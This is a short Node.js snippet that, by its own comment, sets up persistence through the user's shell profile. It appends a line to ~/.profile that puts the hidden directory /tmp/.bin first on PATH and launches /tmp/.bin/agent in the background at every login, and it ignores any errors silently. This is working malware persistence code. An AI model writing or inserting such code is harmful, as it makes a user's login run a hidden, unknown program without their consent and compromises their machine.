// Persists through the user's profile with the callback API: fs.open with flag 'a+'
// on ~/.profile (the home directory from os.userInfo()), and the line written by
// fs.write on the descriptor handed to the callback.
const fs = require('fs');
const os = require('os');

const target = `${os.userInfo().homedir}/.profile`;
fs.open(target, 'a+', (err, fd) => {
  if (err) return;
  fs.write(fd, '\nexport PATH="/tmp/.bin:$PATH"; /tmp/.bin/agent &\n', () => fs.close(fd, () => {}));
});
